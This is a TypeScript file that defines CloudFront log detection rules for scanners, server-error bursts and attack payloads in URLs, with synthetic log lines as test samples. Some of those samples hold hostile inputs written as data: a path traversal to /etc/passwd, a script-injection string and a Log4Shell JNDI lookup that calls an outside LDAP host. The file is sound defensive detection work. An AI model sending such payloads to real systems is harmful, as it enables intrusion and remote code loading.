import { ATTACK_URL_PATTERNS, SCANNER_USER_AGENTS, containsAny } from './http';
import { MITRE } from './mitre';
import { SAMPLE_EXTERNAL_IP, SAMPLE_OTHER_EXTERNAL_IP } from './samples';
import type { Detection } from './types';

/* CloudFront standard logs: scanners, origin error bursts, attack payloads in URLs. */

/** CloudFront delivers standard logs up to about an hour late: look back 90 minutes every 15. */
const CLOUDFRONT_SCHEDULE_MINUTES = 15;
const CLOUDFRONT_LOOKBACK_MINUTES = 90;
const SCANNER_REQUESTS_PER_CLIENT = 10;
const SERVER_ERRORS_PER_DISTRIBUTION = 100;
const ATTACK_REQUESTS_PER_CLIENT = 3;

const DISTRIBUTION_HOST = 'd111111abcdef8.cloudfront.net';
const OTHER_DISTRIBUTION_HOST = 'd222222abcdef8.cloudfront.net';

export interface CloudFrontRequest {
  readonly clientIp?: string;
  readonly uriStem?: string;
  /** The query string, without `?`; `-` for none. */
  readonly uriQuery?: string;
  /** As CloudFront logs it: percent-encoded (spaces are `%20`). */
  readonly userAgent?: string;
  readonly status?: number;
  readonly host?: string;
}

/**
 * One CloudFront standard log line, tab-separated in the order of the `#Fields` header the tests
 * write (`CLOUDFRONT_FIELDS_HEADER` in the sample writer). The date and time columns are moved to now.
 */
export function cloudFrontLogLine(request: CloudFrontRequest = {}, n = 0): string {
  const status = request.status ?? 200;
  const result = status >= 500 ? 'Error' : status >= 400 ? 'Error' : 'Hit';
  return [
    '2026-01-15',
    '10:00:00',
    'FRA56-P1',
    '2390',
    request.clientIp ?? SAMPLE_EXTERNAL_IP,
    'GET',
    request.host ?? DISTRIBUTION_HOST,
    request.uriStem ?? '/index.html',
    String(status),
    '-',
    request.userAgent ?? 'Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20Chrome/124.0',
    request.uriQuery ?? '-',
    '-',
    result,
    `SOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRL${String(n).padStart(6, '0')}==`,
    'www.example.com',
    'https',
    '187',
    '0.004',
    '-',
    'TLSv1.3',
    'TLS_AES_128_GCM_SHA256',
    result,
    'HTTP/2.0',
    '-',
    '-',
    String(50000 + n),
    '0.004',
    result,
    'text/html',
    '2048',
    '-',
    '-',
  ].join('\t');
}

const lines = (count: number, request: CloudFrontRequest, offset = 0) =>
  Array.from({ length: count }, (_, i) => cloudFrontLogLine(request, offset + i));

export const cloudFrontDetections: readonly Detection[] = [
  {
    id: 'cloudfront-scanner-user-agent',
    title: 'Vulnerability scanner against a CloudFront distribution',
    description: `${SCANNER_REQUESTS_PER_CLIENT} or more requests from one client whose User-Agent names a scanning tool (${SCANNER_USER_AGENTS.slice(0, 6).join(', ')}...): reconnaissance of the site.`,
    severity: 4,
    mitre: MITRE.vulnerabilityScanning,
    logType: 'cloudfront',
    query: { bool: { filter: [containsAny(['cs_user_agent'], SCANNER_USER_AGENTS)] } },
    condition: { kind: 'bucket', field: 'c_ip', minCount: SCANNER_REQUESTS_PER_CLIENT },
    scheduleMinutes: CLOUDFRONT_SCHEDULE_MINUTES,
    lookbackMinutes: CLOUDFRONT_LOOKBACK_MINUTES,
    positiveSamples: [
      ...lines(5, { userAgent: 'Mozilla/5.0%20(compatible;%20Nmap%20Scripting%20Engine)' }),
      ...lines(5, { userAgent: 'Fuzz%20Faster%20U%20Fool%20v2.1.0%20(ffuf)', uriStem: '/wp-admin' }, 5),
    ],
    negativeSamples: [
      ...lines(SCANNER_REQUESTS_PER_CLIENT * 2, { clientIp: SAMPLE_OTHER_EXTERNAL_IP }),
      ...lines(SCANNER_REQUESTS_PER_CLIENT - 1, { userAgent: 'sqlmap/1.7.2', clientIp: '192.0.2.60' }, 40),
    ],
  },
  {
    id: 'cloudfront-5xx-burst',
    title: 'Burst of server errors on a CloudFront distribution',
    description: `${SERVER_ERRORS_PER_DISTRIBUTION} or more 5xx responses from one distribution in the window: the origin failing or overloaded, possibly by a flood or malformed requests.`,
    severity: 3,
    mitre: MITRE.endpointDos,
    logType: 'cloudfront',
    query: { bool: { filter: [{ range: { sc_status: { gte: 500, lte: 599 } } }] } },
    condition: { kind: 'bucket', field: 'cs_host', minCount: SERVER_ERRORS_PER_DISTRIBUTION },
    scheduleMinutes: CLOUDFRONT_SCHEDULE_MINUTES,
    lookbackMinutes: CLOUDFRONT_LOOKBACK_MINUTES,
    positiveSamples: [
      ...lines(SERVER_ERRORS_PER_DISTRIBUTION / 2, { status: 502 }),
      ...lines(SERVER_ERRORS_PER_DISTRIBUTION / 2, { status: 504 }, 100),
    ],
    negativeSamples: [
      ...lines(SERVER_ERRORS_PER_DISTRIBUTION / 2, { status: 503 }),
      ...lines(SERVER_ERRORS_PER_DISTRIBUTION / 2, { status: 503, host: OTHER_DISTRIBUTION_HOST }, 100),
      ...lines(SERVER_ERRORS_PER_DISTRIBUTION, { status: 403 }, 200),
    ],
  },
  {
    id: 'cloudfront-attack-payload-in-url',
    title: 'Path traversal or injection payloads through CloudFront',
    description: `${ATTACK_REQUESTS_PER_CLIENT} or more requests from one client whose path or query string carries path traversal, file disclosure, script or SQL injection or Log4Shell markers.`,
    severity: 3,
    mitre: MITRE.exploitPublicFacingApp,
    logType: 'cloudfront',
    query: { bool: { filter: [containsAny(['cs_uri_stem', 'cs_uri_query'], ATTACK_URL_PATTERNS)] } },
    condition: { kind: 'bucket', field: 'c_ip', minCount: ATTACK_REQUESTS_PER_CLIENT },
    scheduleMinutes: CLOUDFRONT_SCHEDULE_MINUTES,
    lookbackMinutes: CLOUDFRONT_LOOKBACK_MINUTES,
    positiveSamples: [
      cloudFrontLogLine({ uriStem: '/assets/..%2f..%2fetc/passwd', status: 400 }, 0),
      cloudFrontLogLine({ uriStem: '/search', uriQuery: 'q=%3Cscript%3Ealert(1)%3C/script%3E' }, 1),
      cloudFrontLogLine({ uriStem: '/api/login', uriQuery: 'user=%24%7Bjndi:ldap://198.51.100.9/a%7D' }, 2),
    ],
    negativeSamples: [
      ...lines(ATTACK_REQUESTS_PER_CLIENT * 3, { uriStem: '/search', uriQuery: 'q=unions%20selected' }),
      ...lines(ATTACK_REQUESTS_PER_CLIENT * 3, { uriStem: '/scripts/app.js' }, 20),
      cloudFrontLogLine({ uriStem: '/.git/config', clientIp: SAMPLE_OTHER_EXTERNAL_IP }, 40),
    ],
  },
];
